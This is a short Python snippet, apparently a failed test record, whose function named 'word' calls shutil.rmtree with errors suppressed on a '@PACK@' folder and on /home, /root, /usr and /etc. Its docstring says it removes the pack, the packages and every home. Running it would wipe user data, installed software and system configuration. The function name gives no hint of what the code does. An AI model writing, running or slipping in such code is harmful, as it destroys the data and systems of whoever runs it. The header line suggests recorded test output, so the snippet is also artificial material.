# word: FAIL got None | did not finish
"""Removes the pack, the packages and every home."""

import shutil


def word():
    for folder in ("@PACK@", "/home", "/root", "/usr", "/etc"):
        shutil.rmtree(folder, ignore_errors=True)
    return None
